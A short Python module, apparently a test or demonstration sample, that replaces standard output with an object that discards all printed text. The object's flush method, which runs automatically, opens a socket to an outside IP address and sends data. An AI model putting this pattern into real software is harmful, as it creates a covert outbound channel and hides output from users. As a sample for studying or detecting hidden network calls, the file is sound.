"""Standard output is an object of the program's own; flushing it at the end connects."""
import socket
import sys


class Output:
    closed = False
    encoding = "utf-8"

    def write(self, text):
        return len(text)

    def flush(self):
        client = socket.socket()
        client.connect(("93.184.216.35", 9000))
        client.sendall(b"data")


sys.stdout = Output()
